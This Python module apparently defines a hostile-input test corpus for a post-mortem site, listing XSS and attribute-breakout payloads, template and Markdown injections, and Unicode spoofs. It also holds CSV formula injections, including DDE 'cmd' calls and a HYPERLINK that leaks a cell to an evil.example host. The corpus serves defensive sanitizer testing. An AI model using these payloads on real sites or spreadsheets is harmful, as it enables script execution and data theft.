"""Every payload of the hostile corpus, where it lives, and how to tell that it worked.

Each payload that would do harm if the site wrote it unescaped announces
itself: a script sets ``window.__pwned`` to the payload's name, and an
injected element carries the id ``pwned-<name>``. A page is safe when
:data:`DETECT_JS`, evaluated in the page, returns an empty list. The corpus
holds each payload verbatim in the field named here, which
``test_loader_hostile.py`` checks, so this list cannot drift from the files.

Markup that an author may use and the sanitizer must keep (``<details>``,
``<kbd>``) is listed in :data:`KEPT`: the page of its post-mortem must still
show it. Spreadsheet formulas are listed with ``threat="formula"``: no cell of
an exported CSV may start with one of :data:`FORMULA_PREFIXES`. Terminal
escape sequences (``threat="terminal"``) must reach no terminal: ``pmkb lint``
prints them as ``\x1b``.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

Threat = Literal["script", "element", "link", "template", "formula", "terminal", "text"]

# Post-mortems that load without errors, so the site renders them, by file.
SCRIPT_TAGS = "2025/2025-01-10-script-tags-in-every-field.md"
BREAKOUTS = "2025/2025-01-11-attribute-and-json-breakouts.md"
TEMPLATES = "2025/2025-01-12-template-and-markdown-injection.md"
FORMULAS = "2025/2025-01-13-spreadsheet-formulas.md"
UNICODE = "2025/2025-01-14-unicode-direction-and-invisible-characters.md"
LONG = "2025/2025-01-15-very-long-values.md"
PATHOLOGICAL = "2025/2025-01-16-pathological-body-for-the-linter.md"
RENDERER = "2025/2025-01-17-markdown-renderer-hazards.md"
BOM_CRLF = "2025/2025-01-18-bom-and-crlf.md"
NEW_YEAR = "2024/2024-12-31-offset-across-new-year.md"
#: Skipped by the loader (a folder starting with `_`), published by MkDocs as an ordinary page.
UNDERSCORE = "2025/_drafts/2025-02-19-underscore-folder.md"
#: In a broken file, not a record: its values reach the site only through problem messages.
KEBAB_FIELDS = "2025/2025-02-12-payloads-in-kebab-fields.md"
TAXONOMY = "taxonomy.yml"


@dataclass(frozen=True)
class Payload:
    """One hostile value.

    ``field`` is a key path of the frontmatter without list indexes
    (``action_items.owner``), ``body``, or ``taxonomy.description``; ``text``
    is exactly what the loaded value contains (the YAML may quote or fold it).
    """

    name: str
    file: str
    field: str
    threat: Threat
    text: str

    @property
    def element_id(self) -> str:
        return f"pwned-{self.name}"


def _p(name: str, file: str, field: str, threat: Threat, text: str) -> Payload:
    return Payload(name, file, field, threat, text)


PAYLOADS: tuple[Payload, ...] = (
    # --- <script> and event handlers in every free-text field ------------------
    _p(
        "title-script",
        SCRIPT_TAGS,
        "title",
        "script",
        "<script>window.__pwned='title-script'</script><b id=\"pwned-title-script\">bold</b>",
    ),
    _p(
        "authors-script",
        SCRIPT_TAGS,
        "authors",
        "script",
        "<script>window.__pwned='authors-script'</script>",
    ),
    _p(
        "authors-img",
        SCRIPT_TAGS,
        "authors",
        "element",
        '"><img id="pwned-authors-img" src=x onerror="window.__pwned=\'authors-img\'">',
    ),
    _p(
        "reviewers-svg",
        SCRIPT_TAGS,
        "reviewers",
        "element",
        '<svg id="pwned-reviewers-svg" onload="window.__pwned=\'reviewers-svg\'"></svg>',
    ),
    _p(
        "root-cause-img",
        SCRIPT_TAGS,
        "root_cause",
        "element",
        '<img id="pwned-root-cause-img" src=x onerror="window.__pwned=\'root-cause-img\'">',
    ),
    _p(
        "summary-iframe",
        SCRIPT_TAGS,
        "impact.summary",
        "element",
        '<iframe id="pwned-summary-iframe" srcdoc="<script>parent.__pwned=\'summary-iframe\'</script>"></iframe>',
    ),
    _p(
        "action-script",
        SCRIPT_TAGS,
        "action_items.action",
        "script",
        "<script>window.__pwned='action-script'</script>",
    ),
    _p(
        "owner-img",
        SCRIPT_TAGS,
        "action_items.owner",
        "element",
        '<img id="pwned-owner-img" src=x onerror="window.__pwned=\'owner-img\'">',
    ),
    _p(
        "tracker-attr",
        SCRIPT_TAGS,
        "action_items.tracker",
        "element",
        'https://tracker.example.com/browse/OPS-1?q="><script id="pwned-tracker-attr">'
        "window.__pwned='tracker-attr'</script>",
    ),
    _p(
        "vendor-a",
        SCRIPT_TAGS,
        "third_party.vendor",
        "link",
        '<a id="pwned-vendor-a" href="javascript:window.__pwned=\'vendor-a\'">vendor</a>',
    ),
    _p(
        "taxonomy-description",
        TAXONOMY,
        "taxonomy.description",
        "element",
        "<script>window.__pwned='taxonomy-description'</script><img id=\"pwned-taxonomy-description\" "
        "src=x onerror=\"window.__pwned='taxonomy-description'\">",
    ),
    # --- raw HTML in the body: dropped by the sanitizer -------------------------
    _p(
        "body-script",
        SCRIPT_TAGS,
        "body",
        "script",
        "<script id=\"pwned-body-script\">window.__pwned='body-script'</script>",
    ),
    _p(
        "body-script-src",
        SCRIPT_TAGS,
        "body",
        "script",
        '<script id="pwned-body-script-src" src="data:text/javascript,window.__pwned=\'body-script-src\'"></script>',
    ),
    _p(
        "body-img",
        SCRIPT_TAGS,
        "body",
        "script",
        '<img src="x" onerror="window.__pwned=\'body-img\'">',
    ),
    _p(
        "body-svg",
        SCRIPT_TAGS,
        "body",
        "element",
        '<svg id="pwned-body-svg" onload="window.__pwned=\'body-svg\'"><circle r="1"/></svg>',
    ),
    _p(
        "body-iframe",
        SCRIPT_TAGS,
        "body",
        "element",
        '<iframe id="pwned-body-iframe" src="javascript:parent.__pwned=\'body-iframe\'"></iframe>',
    ),
    _p(
        "body-iframe-srcdoc",
        SCRIPT_TAGS,
        "body",
        "element",
        '<iframe id="pwned-body-iframe-srcdoc" srcdoc="<script>parent.__pwned=\'body-iframe-srcdoc\'</script>"></iframe>',
    ),
    _p(
        "body-a",
        SCRIPT_TAGS,
        "body",
        "link",
        "<a href=\"javascript:window.__pwned='body-a'\">a javascript: link</a>",
    ),
    _p(
        "body-a-entities",
        SCRIPT_TAGS,
        "body",
        "link",
        "<a href=\"&#106;avascript&colon;window.__pwned='body-a-entities'\">an encoded javascript: link</a>",
    ),
    _p(
        "body-style",
        SCRIPT_TAGS,
        "body",
        "element",
        '<style id="pwned-body-style">body { background: url("javascript:window.__pwned=\'body-style\'") }</style>',
    ),
    _p(
        "body-style-attr",
        SCRIPT_TAGS,
        "body",
        "script",
        "<p style=\"background-image: url(javascript:window.__pwned='body-style-attr')\">styled paragraph</p>",
    ),
    _p(
        "body-form",
        SCRIPT_TAGS,
        "body",
        "element",
        '<form id="pwned-body-form" action="javascript:window.__pwned=\'body-form\'">'
        '<input id="pwned-body-input" autofocus onfocus="window.__pwned=\'body-input\'"></form>',
    ),
    _p(
        "body-object",
        SCRIPT_TAGS,
        "body",
        "element",
        '<object id="pwned-body-object" data="javascript:window.__pwned=\'body-object\'"></object>',
    ),
    _p(
        "body-details-ontoggle",
        SCRIPT_TAGS,
        "body",
        "script",
        "<details ontoggle=\"window.__pwned='body-details-ontoggle'\" open>",
    ),
    _p(
        "body-base",
        SCRIPT_TAGS,
        "body",
        "element",
        '<base id="pwned-body-base" href="javascript:window.__pwned=\'body-base\'//">',
    ),
    _p(
        "body-meta-refresh",
        SCRIPT_TAGS,
        "body",
        "element",
        '<meta id="pwned-body-meta-refresh" http-equiv="refresh" content="0;url=javascript:window.__pwned=\'body-meta-refresh\'">',
    ),
    _p(
        "body-math",
        SCRIPT_TAGS,
        "body",
        "element",
        '<math id="pwned-body-math"><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'body-math\'">',
    ),
    _p(
        "body-md-in-html",
        SCRIPT_TAGS,
        "body",
        "script",
        '<div markdown="1" onmouseover="window.__pwned=\'body-md-in-html\'">**markdown** inside html</div>',
    ),
    _p(
        "body-attr-list",
        SCRIPT_TAGS,
        "body",
        "script",
        "{: onclick=\"window.__pwned='body-attr-list'\" }",
    ),
    _p(
        "body-attr-list-heading",
        SCRIPT_TAGS,
        "body",
        "script",
        "## What Went Wrong { onmouseover=\"window.__pwned='body-attr-list-heading'\" }",
    ),
    _p(
        "body-md-link",
        SCRIPT_TAGS,
        "body",
        "link",
        "[a Markdown link](javascript:window.__pwned='body-md-link')",
    ),
    _p(
        "body-md-image",
        SCRIPT_TAGS,
        "body",
        "script",
        "![an image](x\" onerror=\"window.__pwned='body-md-image')",
    ),
    _p(
        "body-md-autolink",
        SCRIPT_TAGS,
        "body",
        "link",
        "<javascript:window.__pwned='body-md-autolink'>",
    ),
    _p(
        "body-md-reference",
        SCRIPT_TAGS,
        "body",
        "link",
        "[a reference link][evil]\n\n[evil]: javascript:window.__pwned='body-md-reference'",
    ),
    # --- breaking out of attributes, inline JSON and inline JavaScript ----------
    _p(
        "title-attr-dq",
        BREAKOUTS,
        "title",
        "script",
        '" autofocus onfocus="window.__pwned=\'title-attr-dq\'" x="',
    ),
    _p(
        "title-attr-sq",
        BREAKOUTS,
        "title",
        "script",
        "' autofocus onfocus='window.__pwned=\"title-attr-sq\"' x='",
    ),
    _p(
        "authors-svg-sq",
        BREAKOUTS,
        "authors",
        "element",
        "'><svg id='pwned-authors-svg-sq' onload='window.__pwned=\"authors-svg-sq\"'>",
    ),
    _p(
        "root-cause-json-breakout",
        BREAKOUTS,
        "root_cause",
        "element",
        "</script><script id=\"pwned-root-cause-json-breakout\">window.__pwned='root-cause-json-breakout'</script>",
    ),
    _p(
        "root-cause-closers",
        BREAKOUTS,
        "root_cause",
        "element",
        "--> ]]> </textarea></title></style></noscript></template></svg>"
        '<img id="pwned-root-cause-closers" src=x onerror="window.__pwned=\'root-cause-closers\'">',
    ),
    _p(
        "summary-js-string",
        BREAKOUTS,
        "impact.summary",
        "script",
        "\"}]}); window.__pwned='summary-js-string'; //",
    ),
    _p(
        "summary-comment",
        BREAKOUTS,
        "impact.summary",
        "element",
        '<!-- <img id="pwned-summary-comment" src=x onerror="window.__pwned=\'summary-comment\'"> -->',
    ),
    _p(
        "owner-attr",
        BREAKOUTS,
        "action_items.owner",
        "script",
        "\" autofocus onfocus=\"window.__pwned='owner-attr'",
    ),
    _p(
        "tracker-quote",
        BREAKOUTS,
        "action_items.tracker",
        "script",
        'https://tracker.example.com/"onmouseover="window.__pwned=\'tracker-quote\'"x="',
    ),
    _p(
        "tracker-squote",
        BREAKOUTS,
        "action_items.tracker",
        "script",
        "HTTPS://tracker.example.com/browse/OPS-2'onclick='window.__pwned=\"tracker-squote\"'",
    ),
    _p(
        "vendor-plotly-a",
        BREAKOUTS,
        "third_party.vendor",
        "link",
        "<a href=\"javascript:window.__pwned='vendor-plotly-a'\">vendor</a> <b>bold</b> <br>",
    ),
    _p(
        "reviewers-plotly-a",
        BREAKOUTS,
        "reviewers",
        "link",
        "<a href=\"javascript:window.__pwned='reviewers-plotly-a'\">reviewer</a>",
    ),
    # --- template engines and Markdown in frontmatter ----------------------------
    # Evaluated, "pwned-t" ~ "pl-..." becomes "pwned-tpl-...", which no file contains.
    _p(
        "tpl-title",
        TEMPLATES,
        "title",
        "template",
        '{{ "pwned-t" ~ "pl-title" }} {% raw %}{{ "pwned-t" ~ "pl-title-raw" }}{% endraw %}',
    ),
    _p(
        "tpl-authors",
        TEMPLATES,
        "authors",
        "template",
        '{% endraw %}{{ "pwned-t" ~ "pl-authors" }}',
    ),
    _p("tpl-owner", TEMPLATES, "action_items.owner", "template", '{{ "pwned-t" ~ "pl-owner" }}'),
    _p(
        "tpl-vendor",
        TEMPLATES,
        "third_party.vendor",
        "template",
        '{% raw %} {{ "pwned-t" ~ "pl-vendor" }}',
    ),
    _p(
        "tpl-body",
        TEMPLATES,
        "body",
        "template",
        '{{ "pwned-t" ~ "pl-body" }} {% endraw %}{{ "pwned-t" ~ "pl-body-endraw" }}',
    ),
    _p(
        "root-cause-md-link",
        TEMPLATES,
        "root_cause",
        "link",
        "[click me](javascript:window.__pwned='root-cause-md-link')",
    ),
    _p(
        "root-cause-md-image",
        TEMPLATES,
        "root_cause",
        "script",
        '![x](x" onerror="window.__pwned=\'root-cause-md-image)',
    ),
    _p(
        "root-cause-autolink",
        TEMPLATES,
        "root_cause",
        "link",
        "<javascript:window.__pwned='root-cause-autolink'>",
    ),
    _p(
        "root-cause-entity",
        TEMPLATES,
        "root_cause",
        "element",
        '&lt;img id="pwned-root-cause-entity" src=x onerror="window.__pwned=\'root-cause-entity\'"&gt;',
    ),
    _p(
        "summary-md-link",
        TEMPLATES,
        "impact.summary",
        "link",
        "[link](javascript:window.__pwned='summary-md-link')",
    ),
    _p(
        "action-md-link",
        TEMPLATES,
        "action_items.action",
        "link",
        "[a link](javascript:window.__pwned='action-md-link')",
    ),
    _p(
        "action-attr-list",
        TEMPLATES,
        "action_items.action",
        "script",
        "{: onclick=\"window.__pwned='action-attr-list'\" }",
    ),
    # --- spreadsheet formulas --------------------------------------------------------
    _p(
        "csv-title",
        FORMULAS,
        "title",
        "formula",
        '=HYPERLINK("https://evil.example/?leak="&A1,"pwned-csv-title")',
    ),
    _p("csv-authors-at", FORMULAS, "authors", "formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
    _p("csv-authors-minus", FORMULAS, "authors", "formula", "-1+1"),
    _p("csv-reviewers-plus", FORMULAS, "reviewers", "formula", "+cmd|' /C calc'!A0"),
    _p("csv-root-cause", FORMULAS, "root_cause", "formula", "=cmd|' /C calc'!A0"),
    _p("csv-summary-tab", FORMULAS, "impact.summary", "formula", "\t=1+1"),
    _p(
        "csv-action-eq",
        FORMULAS,
        "action_items.action",
        "formula",
        '=HYPERLINK("https://evil.example","pwned-csv-action")',
    ),
    _p(
        "csv-action-plus",
        FORMULAS,
        "action_items.action",
        "formula",
        "+1+1 Add a formula guard to every CSV export",
    ),
    _p(
        "csv-action-minus",
        FORMULAS,
        "action_items.action",
        "formula",
        "-2+3 Remove the formula from the shared incident sheet",
    ),
    _p(
        "csv-action-at",
        FORMULAS,
        "action_items.action",
        "formula",
        "@SUM(A1:A9) Audit the incident sheet for formulas",
    ),
    _p("csv-owner-eq", FORMULAS, "action_items.owner", "formula", "=1+1"),
    _p("csv-owner-plus", FORMULAS, "action_items.owner", "formula", "+owner"),
    _p("csv-owner-minus", FORMULAS, "action_items.owner", "formula", "-owner"),
    _p("csv-owner-at", FORMULAS, "action_items.owner", "formula", "@owner"),
    _p("csv-vendor", FORMULAS, "third_party.vendor", "formula", "=VENDOR()"),
    # --- Unicode that reorders or hides text ------------------------------------------
    _p(
        "title-bidi",
        UNICODE,
        "title",
        "text",
        "Checkout \u202egnp.exe\u202c invoices \u2066isolated\u2069 zero\u200bwidth\u200djoiner\ufeffend",
    ),
    _p("authors-bidi", UNICODE, "authors", "text", "\u202eenilno-yrtsiger"),
    _p(
        "root-cause-line-separator",
        UNICODE,
        "root_cause",
        "script",
        "line\u2028separator and paragraph\u2029separator end a JavaScript string in old engines:"
        "\u2028window.__pwned='root-cause-line-separator'",
    ),
    _p(
        "summary-fullwidth",
        UNICODE,
        "impact.summary",
        "script",
        "\uff1cscript\uff1ewindow.__pwned='summary-fullwidth'\uff1c/script\uff1e",
    ),
    _p("summary-homoglyph", UNICODE, "impact.summary", "text", "p\u0430yments-\u0430pi"),
    _p(
        "action-bidi",
        UNICODE,
        "action_items.action",
        "text",
        "Add a \u202ewarning\u202c for direction overrides to the pre-merge check",
    ),
    _p(
        "owner-combining",
        UNICODE,
        "action_items.owner",
        "text",
        "s\u0337\u0322\u031bre-o\u0334n\u0338c\u0335a\u0336ll",
    ),
    # --- values too long for a layout -----------------------------------------------
    _p(
        "title-long",
        LONG,
        "title",
        "script",
        "<script>window.__pwned='title-long'</script>" + "W" * 76,
    ),
    # --- the same payloads in a file whose BOM and CRLF only earn warnings -------------
    _p(
        "bom-title",
        BOM_CRLF,
        "title",
        "element",
        '<img id="pwned-bom-title" src=x onerror="window.__pwned=\'bom-title\'"> with a BOM',
    ),
    _p(
        "new-year-title",
        NEW_YEAR,
        "title",
        "element",
        '<marquee id="pwned-new-year-title">across the new year</marquee>',
    ),
    # --- a post-mortem the loader never sees ------------------------------------------
    _p(
        "underscore-folder",
        UNDERSCORE,
        "body",
        "script",
        "<script>window.__pwned='underscore-folder'</script>",
    ),
    _p(
        "underscore-folder-img",
        UNDERSCORE,
        "body",
        "script",
        '<img src="x" onerror="window.__pwned=\'underscore-folder-img\'">',
    ),
    # --- values that only a broken file can hold: they reach the site in messages ------
    _p(
        "kebab-id",
        KEBAB_FIELDS,
        "id",
        "element",
        '<img id="pwned-kebab-id" src=x onerror="window.__pwned=\'kebab-id\'">',
    ),
    _p(
        "kebab-services",
        KEBAB_FIELDS,
        "services",
        "script",
        "<script>window.__pwned='kebab-services'</script>",
    ),
    _p(
        "kebab-teams",
        KEBAB_FIELDS,
        "teams",
        "element",
        '"><svg id="pwned-kebab-teams" onload="window.__pwned=\'kebab-teams\'">',
    ),
    _p(
        "kebab-factor",
        KEBAB_FIELDS,
        "contributing_factors",
        "element",
        '<img id="pwned-kebab-factor" src=x onerror="window.__pwned=\'kebab-factor\'">',
    ),
    _p(
        "kebab-terminal",
        KEBAB_FIELDS,
        "teams",
        "terminal",
        "escape \x1b]0;pwned-kebab-terminal\x07\x1b[2J and \u202eoverride",
    ),
    _p(
        "kebab-related",
        KEBAB_FIELDS,
        "related",
        "script",
        "javascript:window.__pwned='kebab-related'",
    ),
    _p(
        "kebab-severity",
        KEBAB_FIELDS,
        "severity",
        "element",
        '<b id="pwned-kebab-severity">SEV1</b>',
    ),
    _p("kebab-trigger", KEBAB_FIELDS, "trigger", "template", '{{ "pwned-t" ~ "pl-trigger" }}'),
)

#: Harmless markup an author may write in a body; the sanitizer must keep it.
#: CSS selector -> the text the element holds, on the page of SCRIPT_TAGS.
KEPT: dict[str, str] = {
    "details > summary": "KEPT-SUMMARY",
    "details": "KEPT-DETAILS",
    "kbd": "KEPT-KBD",
}
KEPT_FILE = SCRIPT_TAGS

#: A CSV cell starting with one of these is a formula in a spreadsheet (OWASP's list).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

#: Evaluated in a page (Playwright's ``page.evaluate``): a list of what was
#: injected, empty when nothing was. Checks every element, including those a
#: payload could only create, and every URL attribute, whatever the tag.
DETECT_JS = r"""
() => {
  const found = [];
  if (typeof window.__pwned !== "undefined") found.push("script ran: window.__pwned = " + String(window.__pwned));
  const urlAttributes = new Set(["href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "srcdoc"]);
  for (const el of document.querySelectorAll("*")) {
    const tag = el.tagName.toLowerCase();
    if ((el.id || "").toLowerCase().startsWith("pwned-")) found.push("element <" + tag + " id=" + el.id + ">");
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value;
      if (name.startsWith("on") && /pwned/i.test(value)) found.push("handler <" + tag + " " + name + "=" + value + ">");
      if (urlAttributes.has(name) && /^(javascript|vbscript|data:text\/html)/i.test(value.replace(/[\u0000-\u0020]/g, ""))) {
        found.push("url <" + tag + " " + name + "=" + value + ">");
      }
      if ((name === "style" || name === "srcdoc") && /pwned/i.test(value)) found.push("attribute <" + tag + " " + name + "=" + value + ">");
    }
  }
  if (document.documentElement.outerHTML.includes("pwned-tpl")) found.push("a template evaluated a value (pwned-tpl-* in the page)");
  return found;
}
"""

#: The corpus doubles as MkDocs' docs_dir: MkDocs 1.6 leaves out only `.*`
#: and `/templates/` by itself, so a site built from it needs this setting to
#: keep the README out of the pages.
MKDOCS_EXCLUDE_DOCS = "/README.md\n"


def by_file(path: str) -> tuple[Payload, ...]:
    return tuple(p for p in PAYLOADS if p.file == path)
